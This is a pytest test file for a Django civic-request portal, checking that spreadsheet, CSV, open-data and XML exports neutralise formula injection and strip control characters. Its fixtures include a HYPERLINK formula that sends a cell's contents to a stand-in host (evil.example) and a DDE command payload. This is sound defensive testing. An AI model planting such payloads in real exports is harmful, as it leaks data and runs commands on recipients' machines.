"""What leaves the portal as a spreadsheet or XML cannot run a formula in an officer's Excel or break a client's parser."""

import csv
import io
from datetime import date
from types import SimpleNamespace
from xml.etree import ElementTree as ET

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from committees.exports import votes_csv
from governance.core.cells import safe_cell
from governance.reports import builders
from governance.reports.figures import Breakdown, Figure, Section
from governance.requests.models import Request
from tests.base import make_api_key, make_category
from tests.governance.requests.helpers import file_request

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_text_that_starts_a_formula_is_made_inert_and_numbers_stay_numbers():
    assert [safe_cell(v) for v in ("=1+1", "+86", "-5", "@SUM(A1)", "\tx", "\rx", "＝1")] == [
        "'=1+1",
        "'+86",
        "'-5",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "'＝1",
    ]
    assert [safe_cell(v) for v in (-5, -2.5, None, True, date(2026, 1, 2), "路灯 -不亮", "")] == [
        -5,
        -2.5,
        None,
        True,
        date(2026, 1, 2),
        "路灯 -不亮",
        "",
    ]
    assert safe_cell("坏\x01了\x07") == "坏了"


def _export_rows(client, fmt: str) -> list[list]:
    response = client.get(reverse("reports:request_export", kwargs={"fmt": fmt}))
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(body)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_title_that_is_a_formula_exports_as_text(demo, client, fmt):
    request = file_request(demo, title=FORMULA[:100])
    client.force_login(demo.street)
    rows = _export_rows(client, fmt)
    title_at = rows[0].index("title")
    row = next(r for r in rows if r[0] == request.number)
    assert row[title_at] == "'" + FORMULA[:100]
    assert not any(isinstance(v, str) and v.startswith("=") for r in rows for v in r)


def test_an_old_row_with_a_control_character_still_exports_to_xlsx(demo, client):
    request = file_request(demo)
    Request.objects.filter(pk=request.pk).update(title="路灯\x01不亮")  # stored before the rule
    client.force_login(demo.street)
    rows = _export_rows(client, "xlsx")
    title_at = rows[0].index("title")
    assert next(r for r in rows if r[0] == request.number)[title_at] == "路灯不亮"


def test_open_data_neutralises_a_category_name(demo, client):
    category = make_category(code="t-formula", name_zh="@cmd|' /C calc'!A0")
    file_request(demo, category="t-formula")
    url = reverse("reports:open_data_file", kwargs={"level": "street", "code": "shuangqiaozi", "dataset": "requests"})
    rows = list(csv.DictReader(io.StringIO(b"".join(client.get(url).streaming_content).decode("utf-8-sig"))))
    assert [r["category"] for r in rows if r["category_code"] == category.code] == ["'@cmd|' /C calc'!A0"]


def test_the_votes_csv_neutralises_motions_and_keeps_counts_as_numbers():
    meeting = SimpleNamespace(title="-议事会")
    decision = SimpleNamespace(
        motion="=1+2",
        votes_for=5,
        votes_against=0,
        votes_abstaining=1,
        get_outcome_display=lambda: "通过",
        members_present=6,
        members_total=7,
        quorum=4,
        get_rule_display=lambda: "到会成员过半数",
    )
    rows = list(csv.reader(io.StringIO(votes_csv(meeting=meeting, decisions=[decision]).lstrip("\ufeff"))))
    assert rows[1] == ["'-议事会", "'=1+2", "5", "0", "1", "通过", "6", "7", "4", "到会成员过半数"]


def test_the_report_workbook_neutralises_labels(demo):
    job = SimpleNamespace(
        node=demo.district, district=demo.district, street_id=None, community_id=None, start=date(2026, 1, 1), end=date(2026, 3, 31)
    )
    section = Section(
        key="requests",
        title="诉求",
        figures=[Figure(key="total", label="总数", value=-3)],
        trend_label="月度",
        trend=[(date(2026, 1, 1), 2)],
        breakdowns=[Breakdown(key="category", title="按类别", rows=[("+cmd", 2)])],
    )
    sheet = load_workbook(io.BytesIO(builders.workbook(job, [section]))).active
    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row if cell is not None]
    assert "'+cmd" in values and -3 in values
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_open311_xml_feed_parses_with_an_old_bell_character(demo, client):
    make_category()
    make_api_key()
    request = file_request(demo, category="noise", title="噪音")
    Request.objects.filter(pk=request.pk).update(text="楼上\x07深夜\x1b打麻将")  # stored before the rule
    body = client.get("/open311/v2/requests.xml").content
    descriptions = [e.text for e in ET.fromstring(body).iter("description")]
    assert "楼上深夜打麻将" in descriptions
